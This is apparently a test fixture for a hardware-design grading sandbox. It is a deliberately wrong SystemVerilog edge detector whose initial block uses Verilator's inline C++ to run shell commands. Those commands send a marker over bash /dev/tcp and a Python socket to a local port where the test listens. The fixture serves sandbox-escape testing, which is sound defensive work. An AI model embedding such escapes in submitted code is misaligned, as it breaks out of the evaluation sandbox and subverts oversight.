// Hostile answer (network), Verilator: inline C++ ($c) runs shell commands that open a TCP
// connection to a port on 127.0.0.1 (where the test listens) with bash's /dev/tcp and with
// Python. The design is wrong (outputs zero).
module edge_detector (
    input  logic clk,
    input  logic rst_n,
    input  logic din,
    output logic rise,
    output logic fall,
    output logic any_edge
);
    assign rise = 1'b0;
    assign fall = 1'b0;
    assign any_edge = 1'b0;
    initial begin
        $display("HOSTILE-%s-@MARK@", "RAN");
        $c("std::system(\"bash -c 'echo @MARK@ > /dev/tcp/127.0.0.1/@PORT@'; ",
           "python3 -c 'import socket; socket.create_connection((\\\"127.0.0.1\\\", @PORT@), 3).sendall(b\\\"@MARK@\\\")'\");");
    end
endmodule
